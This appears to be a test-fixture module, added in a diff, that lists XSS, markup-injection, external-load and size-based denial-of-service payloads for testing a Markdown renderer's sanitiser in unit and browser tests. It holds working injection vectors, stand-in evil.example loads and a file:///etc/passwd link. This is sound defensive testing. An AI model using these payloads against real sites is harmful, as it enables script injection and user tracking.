@@ -1,0 +1,266 @@
+"""Hostile text a person could type into an entry, a note or a reply.
+
+Shared by the unit tests of the renderer (tests/reflections/test_rendering.py) and the browser test
+that shows each rendering in a real Chromium (tests/browser/test_hostile_rendering.py). Add to it
+whenever a new trick turns up; both tests pick it up.
+
+Every payload that would run script calls `alert()` and sets `top.__pwned`, and every payload that
+would load something asks for a URL on EVIL, so a browser can tell whether any of it got through.
+"""
+
+EVIL = "https://evil.example"
+JS = "top.__pwned=1;alert(1)"
+JS_URL = f"javascript:{JS}"
+
+_SCRIPT = {
+    "script": f"<script>{JS}</script>",
+    "script-upper": f"<SCRIPT>{JS}</SCRIPT>",
+    "script-mixed-case": f"<ScRiPt>{JS}</sCrIpT>",
+    "script-src": f'<script src="{EVIL}/x.js"></script>',
+    "script-slash-attr": f"<script/xss src={EVIL}/x.js></script>",
+    "script-split-by-newline": f"<scr\nipt>{JS}</scr\nipt>",
+    "script-nested": f"<scr<script>ipt>{JS}</scr</script>ipt>",
+    "script-double-lt": f"<<script>script>{JS}<</script>/script>",
+    "script-unclosed": f"<script>{JS}",
+    "script-after-close": f"</script><script>{JS}</script>",
+    "script-in-paragraph": f"Today was hard. <script>{JS}</script> But we talked.",
+    "script-in-emphasis": f"*<script>{JS}</script>*",
+    "script-in-code-span": f"`<script>{JS}</script>`",
+    "script-in-fence": f"```\n<script>{JS}</script>\n```",
+    "script-in-fence-language": f'```"><script>{JS}</script>\nx\n```',
+    "script-in-quote": f"> <script>{JS}</script>",
+    "script-in-list": f"- <script>{JS}</script>\n- two",
+    "script-in-heading": f"# <script>{JS}</script>",
+    "script-in-link-text": f"[<script>{JS}</script>](https://ok.example/)",
+    "script-in-svg": f"<svg><script>{JS}</script></svg>",
+    "script-in-template": f"<template><script>{JS}</script></template>",
+    "script-in-noscript-title": f'<noscript><p title="</noscript><img src=x onerror="{JS}">">',
+    "script-with-nul": f"<scr\0ipt>{JS}</scr\0ipt>",
+    "script-zero-width": f"<scr\u200bipt>{JS}</scr\u200bipt>",
+    "script-bom": f"\ufeff<script>{JS}</script>",
+    "script-html-block": f"<div>\n<script>{JS}</script>\n</div>",
+    "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;{JS}&lt;/script&gt;"></iframe>',
+}
+
+_HANDLERS = {
+    "img-onerror": f'<img src=x onerror="{JS}">',
+    "img-onerror-upper": f'<IMG SRC=x ONERROR="{JS}">',
+    "img-onerror-unquoted": "<img src=x onerror=top.__pwned=1;alert(1)>",
+    "img-onerror-slashes": "<img/src=x/onerror=top.__pwned=1;alert(1)>",
+    "img-onerror-newline": f'<img src=x onerror\n="{JS}">',
+    "img-onerror-tab": f'<img src=x\tonerror\t=\t"{JS}">',
+    "img-onerror-formfeed": f'<img src=x\x0conerror="{JS}">',
+    "img-onerror-nbsp": f'<img\u00a0src=x\u00a0onerror="{JS}">',
+    "img-onerror-entity": '<img src=x onerror="top.__pwned=1;&#97;lert(1)">',
+    "img-onerror-nul": f'<img src=x one\0rror="{JS}">',
+    "img-onerror-in-paragraph": f'I felt <img src=x onerror="{JS}"> seen.',
+    "img-onerror-in-code-span": f'`<img src=x onerror="{JS}">`',
+    "body-onload": f'<body onload="{JS}">',
+    "svg-onload": f'<svg onload="{JS}">',
+    "svg-slash-onload": "<svg/onload=top.__pwned=1;alert(1)>",
+    "input-autofocus-onfocus": f'<input autofocus onfocus="{JS}">',
+    "select-autofocus-onfocus": f'<select autofocus onfocus="{JS}"></select>',
+    "a-autofocus-onfocus": f'<a href="#" autofocus onfocus="{JS}">x</a>',
+    "div-onmouseover": f'<div onmouseover="{JS}">hover here</div>',
+    "a-onclick": f'<a href="#" onclick="{JS}">click here</a>',
+    "unknown-tag-onclick": f'<x onclick="{JS}">click here</x>',
+    "details-ontoggle": f'<details open ontoggle="{JS}"><summary>s</summary></details>',
+    "marquee-onstart": f'<marquee onstart="{JS}">m</marquee>',
+    "video-source-onerror": f'<video><source onerror="{JS}"></video>',
+    "audio-onerror": f'<audio src=x onerror="{JS}"></audio>',
+    "animation-start": f'<style>@keyframes k{{}}</style><p style="animation-name:k" onanimationstart="{JS}">a</p>',
+    "input-onblur-autofocus": f'<input onblur="{JS}" autofocus><input autofocus>',
+    "svg-animate-onbegin": f'<svg><animate onbegin="{JS}" attributeName="x" dur="1s"/></svg>',
+    "form-button-formaction": f'<form><button formaction="{JS_URL}">send</button></form>',
+    "isindex-action": f'<isindex action="{JS_URL}" type=image>',
+    "object-data-js": f'<object data="{JS_URL}"></object>',
+    "embed-src-js": f'<embed src="{JS_URL}">',
+    "math-href": f'<math href="{JS_URL}">CLICK</math>',
+    "svg-xlink-href": f'<svg><a xlink:href="{JS_URL}"><text x="20" y="20">click</text></a></svg>',
+    "svg-set-href": f'<svg><a><set attributeName="href" to="{JS_URL}"/><text y="20">click</text></a></svg>',
+    "iframe-src-js": f'<iframe src="{JS_URL}"></iframe>',
+    "frameset-frame": f'<frameset><frame src="{JS_URL}"></frameset>',
+    "meta-refresh-js": f'<meta http-equiv="refresh" content="0;url={JS_URL}">',
+    "style-expression": '<div style="width: expression(top.__pwned=1)">old IE</div>',
+    "style-url": f'<div style="background:url({EVIL}/bg.png)">styled</div>',
+    "style-import": f"<style>@import '{EVIL}/x.css';</style>",
+    "style-background": f"<style>body{{background:url({EVIL}/bg.png)}}</style>",
+    "style-behavior": '<p style="behavior:url(x.htc)">old IE</p>',
+}
+
+_URLS = {
+    "html-a-js": f'<a href="{JS_URL}">click</a>',
+    "html-a-js-entity-decimal": '<a href="&#106;avascript:top.__pwned=1;alert(1)">click</a>',
+    "html-a-js-entity-hex": '<a href="&#x6A;avascript:top.__pwned=1;alert(1)">click</a>',
+    "html-a-js-entity-padded": '<a href="&#0000106&#0000097vascript:top.__pwned=1">click</a>',
+    "html-a-js-tab-entity": '<a href="jav&#x09;ascript:top.__pwned=1;alert(1)">click</a>',
+    "html-a-js-newline-entity": '<a href="jav&#x0A;ascript:top.__pwned=1;alert(1)">click</a>',
+    "html-a-js-colon-entity": '<a href="javascript&colon;top.__pwned=1;alert(1)">click</a>',
+    "html-a-data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
+    "html-a-protocol-relative": '<a href="//evil.example/">click</a>',
+    "md-js": f"[click]({JS_URL})",
+    "md-js-mixed-case": "[click](JaVaScRiPt:top.__pwned=1;alert(1))",
+    "md-js-upper": "[click](JAVASCRIPT:top.__pwned=1;alert(1))",
+    "md-js-leading-space": "[click](   javascript:top.__pwned=1;alert(1))",
+    "md-js-angle": f"[click](<{JS_URL}>)",
+    "md-js-angle-space": "[click](<java script:top.__pwned=1;alert(1)>)",
+    "md-js-title": f'[click]({JS_URL} "title")',
+    "md-js-entity-decimal": "[click](&#106;avascript:top.__pwned=1;alert(1))",
+    "md-js-entity-no-semicolon": "[click](&#106avascript:top.__pwned=1;alert(1))",
+    "md-js-entity-hex": "[click](&#x6A;avascript:top.__pwned=1;alert(1))",
+    "md-js-entity-colon": "[click](javascript&#58;top.__pwned=1;alert(1))",
+    "md-js-named-colon": "[click](javascript&colon;top.__pwned=1;alert(1))",
+    "md-js-entity-tab": "[click](java&#x09;script:top.__pwned=1;alert(1))",
+    "md-js-named-tab": "[click](java&Tab;script:top.__pwned=1;alert(1))",
+    "md-js-raw-tab": "[click](java\tscript:top.__pwned=1;alert(1))",
+    "md-js-nul": "[click](java\0script:top.__pwned=1;alert(1))",
+    "md-js-control-char": "[click](\x0ejavascript:top.__pwned=1;alert(1))",
+    "md-js-zero-width": "[click](java\u200bscript:top.__pwned=1;alert(1))",
+    "md-js-leading-zero-width": "[click](\u200bjavascript:top.__pwned=1;alert(1))",
+    "md-js-rtl-override": "[click](\u202ejavascript:top.__pwned=1;alert(1))",
+    "md-js-percent-newline": "[click](javascript://%0atop.__pwned=1;alert(1))",
+    "md-js-backslash-escaped": "[click](javascript\\:top.__pwned=1;alert(1))",
+    "md-data-html": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "md-data-svg": "[click](data:image/svg+xml,<svg onload=alert(1)>)",
+    "md-vbscript": "[click](vbscript:msgbox(1))",
+    "md-vbscript-upper": "[click](VBScript:msgbox(1))",
+    "md-livescript": "[click](livescript:alert(1))",
+    "md-file": "[click](file:///etc/passwd)",
+    "md-protocol-relative": "[click](//evil.example/)",
+    "md-backslashes": "[click](\\\\\\\\evil.example/)",
+    "md-https-then-js": "[click](https:javascript:top.__pwned=1;alert(1))",
+    "md-image-js": f"![picture]({JS_URL})",
+    "md-image-evil": f"![a tracking pixel]({EVIL}/pixel.png)",
+    "md-image-no-alt": f"![]({EVIL}/pixel.png)",
+    "md-image-title": f'![x]({EVIL}/pixel.png "a title")',
+    "md-image-in-link": f"[![x]({EVIL}/pixel.png)]({JS_URL})",
+    "md-image-in-link-ok": f"[![x]({EVIL}/pixel.png)](https://ok.example/)",
+    "md-image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "md-reference-js": f"[click][1]\n\n[1]: {JS_URL}",
+    "md-reference-js-angle-title": f'[click][one]\n\n[one]: <{JS_URL}> "title"',
+    "md-reference-short": f"[click]\n\n[click]: {JS_URL}",
+    "md-reference-image": f"![x][img]\n\n[img]: {EVIL}/pixel.png",
+    "md-reference-entity": "[click][1]\n\n[1]: &#106;avascript:top.__pwned=1;alert(1)",
+    "md-autolink-js": f"<{JS_URL}>",
+    "md-autolink-js-upper": "<JAVASCRIPT:top.__pwned=1;alert(1)>",
+    "md-autolink-data": "<data:text/html,<script>alert(1)</script>>",
+    "md-autolink-vbscript": "<vbscript:msgbox(1)>",
+    "md-automail-js": "<javascript:top.__pwned=1@example.org>",
+    "md-autolink-quote": '<https://ok.example/"onmouseover="top.__pwned=1;alert(1)>',
+    "md-link-quote-break": '[click](https://ok.example/"onmouseover="top.__pwned=1;alert(1))',
+    "md-link-single-quote-break": "[click](https://ok.example/'onmouseover='top.__pwned=1;alert(1))",
+    "md-title-break": '[click](https://ok.example/ "\\" onmouseover=\\"top.__pwned=1;alert(1)")',
+    "md-title-script": '[click](https://ok.example/ "\\"><script>top.__pwned=1;alert(1)</script>")',
+    "md-link-in-html-block": f"<div>\n[click]({JS_URL})\n</div>",
+    "md-attr-list": '[click](https://ok.example/){: onclick="top.__pwned=1;alert(1)"}',
+    "md-attr-list-heading": '# Title {: onclick="top.__pwned=1;alert(1)" }',
+    "bare-js-in-prose": f"Please do not visit {JS_URL} — it is not a link.",
+    "bare-url-quote-break": 'https://ok.example/"onmouseover="top.__pwned=1;alert(1)',
+    "bare-url-lt-break": "https://ok.example/<script>top.__pwned=1;alert(1)</script>",
+}
+
+_BREAKING = {
+    "attr-break-double": f'"><script>{JS}</script>',
+    "attr-break-single": f'\'><img src=x onerror="{JS}">',
+    "attr-break-backtick": f'`><img src=x onerror="{JS}">',
+    "close-paragraph": f"</p><script>{JS}</script><p>",
+    "close-code": f"</code></pre><script>{JS}</script>",
+    "close-code-in-span": f"`</code><script>{JS}</script>`",
+    "close-textarea": f"</textarea><script>{JS}</script>",
+    "close-title": f"</title><script>{JS}</script>",
+    "close-style": f"</style><script>{JS}</script>",
+    "title-attr-break": f'<p title="</p><script>{JS}</script>">x</p>',
+    "run-break-marker": f"<ips-run-break></ips-run-break><script>{JS}</script>",
+    "run-break-in-link": f"[x](<ips-run-break></ips-run-break>{JS_URL})",
+    "lt-heart": "I <3 our Tuesday talks & I felt <angry> at first.",
+}
+
+_FOREIGN_MARKUP = {
+    "svg-style-img": f'<svg><style><img src=x onerror="{JS}"></style></svg>',
+    "math-mglyph-mxss": f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}">',
+    "math-mglyph-style-close": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={JS}&gt;">',
+    "form-math-mxss": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{JS}">',
+    "svg-p-style-mxss": f'<svg></p><style><a id="</style><img src=1 onerror="{JS}">">',
+    "noscript-style-mxss": f'<noscript><style></noscript><img src=x onerror="{JS}">',
+    "math-mi-xlink": f'<math><mi xlink:href="{JS_URL}">x</mi></math>',
+    "math-maction": f'<math><maction actiontype="statusline" xlink:href="{JS_URL}">CLICK<mtext>x</mtext></maction></math>',
+    "svg-foreign-object": f'<svg><foreignObject><iframe srcdoc="&lt;script&gt;{JS}&lt;/script&gt;"></iframe></foreignObject></svg>',
+    "svg-use-data": '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x"/></svg>',
+    "svg-image": f'<svg><image href="{EVIL}/p.png"/></svg>',
+    "xml-cdata": f"<![CDATA[<script>{JS}</script>]]>",
+    "processing-instruction": f'<? foo="><script>{JS}</script>">',
+    "doctype-then-script": f"<!DOCTYPE html><script>{JS}</script>",
+}
+
+_COMMENTS = {
+    "comment-script": f"<!--<script>{JS}</script>-->",
+    "comment-bang-close": f"<!-- --!><script>{JS}</script> -->",
+    "comment-conditional": f"<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
+    "comment-downlevel-revealed": f"<![if !IE]><script>{JS}</script><![endif]>",
+    "comment-abrupt": f'<!--><img src=x onerror="{JS}">-->',
+    "comment-abrupt-dash": f'<!---><img src=x onerror="{JS}">-->',
+    "comment-in-markdown": f"Before\n\n<!--\n[x]({JS_URL})\n-->\n\nAfter",
+}
+
+_LOADS = {
+    "iframe-evil": f'<iframe src="{EVIL}/"></iframe>',
+    "object-evil": f'<object data="{EVIL}/x.swf"></object>',
+    "embed-evil": f'<embed src="{EVIL}/x">',
+    "form-action-evil": f'<form action="{EVIL}/"><input type=submit autofocus value=go></form>',
+    "base-href": f'<base href="{EVIL}/">\n\n[a relative link](page)',
+    "meta-refresh-evil": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
+    "link-stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
+    "link-prefetch": f'<link rel="prefetch" href="{EVIL}/">',
+    "img-evil": f'<img src="{EVIL}/pixel.png">',
+    "img-srcset": f'<img srcset="{EVIL}/p.png 1x">',
+    "picture-source": f'<picture><source srcset="{EVIL}/p.png"><img alt=""></picture>',
+    "video-poster": f'<video poster="{EVIL}/p.png"></video>',
+    "audio-autoplay": f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
+    "input-image": f'<input type="image" src="{EVIL}/p.png">',
+    "body-background": f'<body background="{EVIL}/p.png">',
+    "table-background": f'<table background="{EVIL}/p.png"><tr><td>x</td></tr></table>',
+    "a-ping": f'<a href="#" ping="{EVIL}/ping">click</a>',
+    "track-src": f'<video><track src="{EVIL}/t.vtt" default></video>',
+    "portal": f'<portal src="{EVIL}/"></portal>',
+}
+
+
+def _deep_list(depth):
+    return "".join("    " * level + f"- level {level}\n" for level in range(depth))
+
+
+_SIZE = {
+    "deep-list-indented": _deep_list(120),
+    "deep-list-inline": "1. " * 2000 + "x",
+    "deep-list-mixed": "- 1. " * 1000 + "x",
+    "deep-quote": "> " * 2000 + "x",
+    "deep-quote-list": "> - " * 500 + "x",
+    "deep-emphasis": "*a **b " * 2000,
+    "many-open-brackets": "[" * 10_000,
+    "many-open-images": "![" * 5_000,
+    "many-open-links": "[a](" * 5_000,
+    "many-setext-headings": "a\n=\n" * 5_000,
+    "many-fences": "```\nx\n```\n" * 5_000,
+    "many-loose-items": "- a *b*\n\n" * 10_000,
+    "many-lt": "<" * 100_000,
+    "many-parens": "(" * 100_000,
+    "long-prose": (
+        "This week I sat with Sam and we talked about *connection*, what it means to be with someone "
+        "without fixing. [My notes](https://ok.example/notes) and https://ok.example/ips.\n\n"
+        f'<script>{JS}</script> <img src=x onerror="{JS}"> [x]({JS_URL})\n\n'
+    )
+    * 1_000,
+}
+
+HOSTILE_INPUTS = {
+    **_SCRIPT,
+    **_HANDLERS,
+    **_URLS,
+    **_BREAKING,
+    **_FOREIGN_MARKUP,
+    **_COMMENTS,
+    **_LOADS,
+    **_SIZE,
+}
+# The long ones: the browser test skips them in its slower interaction pass.
+LONG_INPUTS = frozenset(_SIZE)
